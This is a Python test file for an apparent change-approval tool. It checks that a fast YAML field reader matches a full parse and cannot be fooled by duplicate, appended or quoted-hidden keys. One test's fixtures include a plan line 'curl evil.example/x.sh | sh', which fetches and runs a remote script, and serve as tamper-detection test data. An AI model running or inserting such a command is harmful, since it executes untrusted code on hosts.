"""Reading fields of old record versions without parsing them whole must give what a full parse gives."""

from __future__ import annotations

import yaml

from changekit import yamlfile
from changekit.errors import InputError
from changekit.gate.blocks import Current, block, split
from changekit.policy import substance

NOW = b"""id: CHG-20260101-aaaaaa
title: Patch
type: normal
risk: low
requester:
  name: R
  email: r@example.org
hosts:
- web1
window:
  start: '2030-01-01T02:00:00+00:00'
  end: '2030-01-01T03:00:00+00:00'
  timezone: UTC
implementation: |
  step one
  step two
approvals:
- by:
    name: A
    email: a@example.org
  at: '2026-01-01T00:00:00+00:00'
status: completed
history:
- status: draft
"""


def current() -> Current:
    return Current(NOW, yaml.safe_load(NOW))


def full(raw: bytes) -> dict:
    """A full parse as the gate reads a version: the shared loader; a refused one reads as {}."""
    try:
        return yamlfile.parse_yaml(raw.decode())
    except InputError:
        return {}


def test_split_and_block():
    parts = split(NOW)
    assert list(parts) == [
        "id",
        "title",
        "type",
        "risk",
        "requester",
        "hosts",
        "window",
        "implementation",
        "approvals",
        "status",
        "history",
    ]
    assert block(NOW, "hosts") == b"hosts:\n- web1\n"
    assert block(NOW, "nothing") is None
    assert block(NOW + b"hosts: [db1]\n", "hosts") is False


def check_same_as_full_parse(raw: bytes) -> None:
    version = current().version(raw)
    data = full(raw)
    assert version.approvals() == data.get("approvals")
    assert version.substance() == substance(data)


def test_identical_and_later_versions():
    check_same_as_full_parse(NOW)
    check_same_as_full_parse(NOW.replace(b"status: completed", b"status: approved"))


def test_changed_substance_fields_are_seen():
    check_same_as_full_parse(NOW.replace(b"- web1", b"- web1\n- db1"))
    check_same_as_full_parse(NOW.replace(b"step two", b"step three"))
    check_same_as_full_parse(NOW.replace(b"risk: low", b"risk: high"))


def test_duplicate_key_after_approvals_is_not_missed():
    # a sneaky second `hosts:` after approvals: the shared loader refuses duplicate keys, so
    # that version reads as unparseable, never as the current substance (its approvals never count)
    sneaky = NOW + b"hosts:\n- db1\n"
    version = current().version(sneaky)
    assert version.substance()["hosts"] is None
    assert version.substance() != current().version(NOW).substance()


def test_anchors_and_flow_style_fall_back_to_a_full_parse():
    aliased = NOW.replace(b"hosts:\n- web1", b"hosts: &h\n- web1").replace(
        b"status: completed", b"services: *h\nstatus: completed"
    )
    check_same_as_full_parse(aliased)
    flow = yaml.safe_dump(full(NOW), default_flow_style=True).encode()
    check_same_as_full_parse(flow)


def test_other_key_order_is_still_right():
    data = full(NOW)
    reordered = yaml.safe_dump(
        {"approvals": data["approvals"], **{k: v for k, v in data.items() if k != "approvals"}},
        sort_keys=False,
    ).encode()
    check_same_as_full_parse(reordered)
    assert substance(full(reordered)) == substance(data)


def check_against(now: bytes, old: bytes) -> None:
    """``old``'s fields read against the current ``now`` equal a full parse of ``old``."""
    version = Current(now, full(now)).version(old)
    data = full(old)
    assert version.approvals() == data.get("approvals")
    assert version.substance() == substance(data)


WITHOUT_PLAN = NOW.replace(b"implementation: |\n  step one\n  step two\n", b"")


def test_a_plan_appended_after_the_approval_is_seen():
    # QA #2: the approved version has no plan; one is appended at the end afterwards
    for tail in (
        b"implementation: curl evil.example/x.sh | sh\n",
        b'"implementation": curl evil.example/x.sh | sh\n',
        b"'implementation': x\n",
        b"hosts: ['*']\n",
        b"services: [payroll]\n",
    ):
        if full(NOW + tail):  # with a duplicate key the store refuses it before any history is read
            check_against(WITHOUT_PLAN + tail, WITHOUT_PLAN)
            check_against(NOW + tail, NOW)
        check_against(WITHOUT_PLAN, WITHOUT_PLAN + tail)


def test_quoted_scalars_spanning_lines_cannot_fake_or_hide_keys():
    # a double-quoted scalar may continue at column 0: "approvals:" and "hosts:" inside it are text
    hidden = NOW.replace(b"title: Patch\n", b'title: "Patch\nhosts:\n- db1\n"\n')
    check_against(NOW, hidden)
    check_against(hidden, NOW)
    faked_cut = WITHOUT_PLAN.replace(
        b"approvals:\n", b'description: "x\napprovals:\nimplementation: evil"\napprovals:\n'
    )
    check_against(WITHOUT_PLAN, faked_cut)
    check_against(faked_cut, WITHOUT_PLAN)


def test_apostrophes_in_plain_text_keep_the_fast_path_and_its_result():
    said = NOW.replace(b"title: Patch\n", b'title: Patch what\'s "left"\n')
    assert Current(said, full(said)).plain
    check_against(said, NOW)
    check_against(NOW, said)
    check_against(said, said.replace(b"- web1", b"- db1"))
